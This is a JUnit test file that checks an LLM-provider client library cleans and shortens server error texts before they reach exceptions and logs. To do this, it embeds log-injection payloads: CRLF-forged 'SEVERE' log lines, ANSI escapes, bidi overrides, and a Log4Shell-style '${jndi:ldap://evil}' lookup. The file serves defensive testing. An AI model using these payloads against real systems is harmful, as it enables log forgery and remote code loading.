package dev.llmspi.it.faults;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.llmspi.api.Attempt;
import dev.llmspi.api.LlmProvider;
import dev.llmspi.api.error.LlmException;
import dev.llmspi.api.error.LlmServiceException;
import dev.llmspi.it.server.Reply;
import dev.llmspi.it.server.StreamReply;
import dev.llmspi.testkit.ScriptedProvider;
import java.util.List;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Checks that server texts in error messages and log lines have a limited length and contain no line breaks or control
 * characters.
 */
@Timeout(60)
class ServerTextTest {

    private static final String FORGED = "SEVERE forged";
    private static final String NASTY = "a\\r\\n" + FORGED + "\\n\\u2028" + FORGED + "\\u2029" + FORGED + "\\u0085"
            + FORGED + "\\u001b[31m\\u0000\\u0007\\u202e\\u200b\\udb40\\udc41b ${jndi:ldap://evil} %n%s {0} "
            + "z".repeat(10_000);
    private static final int LONGEST_MESSAGE = 2 * 1024 + 300;

    private static List<Reply> replies() {
        String page = NASTY.replace("\\r\\n", "\r\n").replace("\\n", "\n").replace("\\u001b", "\u001b");
        return List.of(
                Reply.error(500, "500", NASTY),
                Reply.error(401, NASTY, NASTY),
                Reply.json(400, "{\"detail\":[{\"msg\":\"" + NASTY + "\"}]}"),
                Reply.json(200, "{\"error\":{\"code\":502,\"message\":\"" + NASTY + "\"}}"),
                Reply.of(502, "text/html", "<pre>" + page + "</pre>"),
                Reply.of(503, "text/plain", page, "x-request-id: a\u001b[31mb " + "z".repeat(5000)),
                Reply.raw("HTTP/1.1 500 a\u001b[31m " + FORGED + "\r\nContent-Length: 0\r\n\r\n"));
    }

    @Tag("fault-8.5")
    @ParameterizedTest
    @EnumSource
    void controlCharacters_inAnError_areOneShortLine(Mode mode) {
        for (String provider : List.of("openrouter", "portkey")) {
            for (Reply reply : replies()) {
                assertTame(provider, mode, reply);
            }
        }
    }

    @Tag("fault-8.5")
    @Test
    void controlCharacters_inAStream_areOneShortLine() {
        String error = "{\"error\":{\"code\":\"" + NASTY + "\",\"message\":\"" + NASTY + "\"}}";
        assertTame("openrouter", Mode.STREAM, StreamReply.chunked().event(error).done());
        assertTame(
                "portkey",
                Mode.STREAM,
                StreamReply.chunked().text("hello").event(error).done());
    }

    private static void assertTame(String provider, Mode mode, Reply reply) {
        try (LogLines log = new LogLines();
                FaultBench bench = FaultBench.alone(provider).set("llm.retry.max-retries", 0)) {
            bench.server(provider).always(reply);
            LlmException error = bench.call(mode).error();
            assertLine(error.getMessage(), LONGEST_MESSAGE);
            assertLine(error.code().orElse(""), 120);
            assertLine(error.requestId().orElse(""), 120);
            for (Attempt attempt : error.attempts()) {
                assertLine(attempt.message(), LONGEST_MESSAGE);
                assertLine(attempt.toString(), LONGEST_MESSAGE + 200);
            }
            List<String> lines = log.matching(line -> line.contains("dev.llmspi"));
            assertFalse(lines.isEmpty());
            lines.forEach(line -> assertLine(line, LONGEST_MESSAGE + 300));
        }
    }

    private static void assertLine(String text, int longest) {
        assertTrue(text.length() <= longest, () -> text.length() + " characters: " + text);
        boolean clean = text.codePoints()
                .noneMatch(c -> Character.isISOControl(c)
                        || Character.getType(c) == Character.FORMAT
                        || c == 0x2028
                        || c == 0x2029);
        assertTrue(clean, text);
    }

    /** The error message contains one line per attempt, and no line breaks from a server. */
    @Tag("fault-8.5")
    @ParameterizedTest
    @EnumSource
    void controlCharacters_severalAttempts_haveALineEach(Mode mode) {
        try (FaultBench bench = FaultBench.both().set("llm.retry.max-retries", 1)) {
            bench.openrouter.always(Reply.error(500, "500", NASTY));
            bench.portkey.always(Reply.error(500, "500", NASTY));
            LlmException error = bench.call(mode).error();
            List<String> lines = error.getMessage().lines().toList();
            assertEquals(1 + 1 + 4, lines.size(), error.getMessage());
            assertTrue(lines.stream().noneMatch(line -> line.strip().startsWith(FORGED)), error.getMessage());
        }
    }

    /** The same rules apply to the message of an error that a plug-in throws. */
    @Tag("fault-8.5")
    @ParameterizedTest
    @EnumSource
    void controlCharacters_ofAPlugIn_areOneBoundedLogLine(Mode mode) {
        String nasty = "a\r\n" + FORGED + "\u2028\u001b[31m\u009b\u202e\u200b\udb40\udc41" + "z".repeat(1_000_000);
        LlmProvider plugIn = ScriptedProvider.named("plug-in")
                .fails(LlmServiceException.builder().message(nasty).build());
        try (LogLines log = new LogLines();
                FaultBench bench = FaultBench.both()
                        .with(builder -> builder.provider(plugIn))
                        .chain("plug-in")
                        .set("llm.retry.max-retries", 0)) {
            LlmException error = bench.call(mode).error();
            error.attempts().forEach(attempt -> assertLine(attempt.toString(), 4 * 1024 + 200));
            log.matching(line -> line.contains("dev.llmspi")).forEach(line -> assertLine(line, 4 * 1024 + 300));
        }
    }
}
